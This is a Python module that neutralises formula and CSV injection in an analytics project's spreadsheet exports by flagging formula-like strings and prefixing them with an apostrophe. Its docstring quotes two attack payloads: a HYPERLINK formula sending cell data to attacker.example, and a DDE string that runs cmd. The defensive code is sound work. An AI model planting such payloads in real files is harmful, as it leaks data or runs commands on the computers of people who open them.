"""Text written to spreadsheets (xlsx and CSV) stays text: no user string can start a formula.

A title such as ``=HYPERLINK("http://attacker.example/?"&A2,"附件")`` must never become a live
formula in a report a manager opens, and ``+cmd|' /C calc'!A0`` must not reach Excel's DDE. A
string is *formula-like* when it begins with ``= + - @``, with a tab, carriage return or line feed,
or with whitespace followed by one of ``= + - @`` (spreadsheet programs trim it when they parse).

How each format keeps such a string as text, unchanged for the reader:

- **xlsx**: the cell is written with the string type (``t="inlineStr"``, never an ``<f>``
  element) and the ``quotePrefix`` style, Excel's own "this was typed as 'text" flag. The cell
  shows the exact string; editing and confirming it keeps it text. Nothing is added to the value,
  so sorting, filtering and copying see what the user typed.
- **CSV** has no types or styles, so the value gets a leading apostrophe (``'=1``), the usual
  defence (OWASP's "CSV injection" advice): Excel and LibreOffice show the apostrophe but never
  evaluate the field. Plain numbers such as ``+3`` or ``-2.5%`` (the dashboard's change columns)
  are left alone: they cannot run anything and a spreadsheet reads them as numbers.

Every xlsx and CSV writer of the project goes through this module (``analytics.report`` and
``analytics.tables`` are the only ones).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = frozenset("=+-@")
CONTROL_STARTS = frozenset("\t\r\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)%?")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as the start of a formula (or a DDE command)."""
    if not text:
        return False
    first = text[0]
    if first in FORMULA_STARTS or first in CONTROL_STARTS:
        return True
    if first.isspace():
        stripped = text.lstrip()
        return bool(stripped) and (stripped[0] in FORMULA_STARTS or stripped[0] in CONTROL_STARTS)
    return False


def csv_value(value: Any) -> Any:
    """``value`` as a CSV field that no spreadsheet evaluates: formula-like text gets a leading ``'``."""
    if isinstance(value, str) and is_formula_like(value) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every field passes through :func:`csv_value`."""

    def __init__(self, handle: Any, **kwargs: Any):
        self._writer = csv.writer(handle, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_value(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
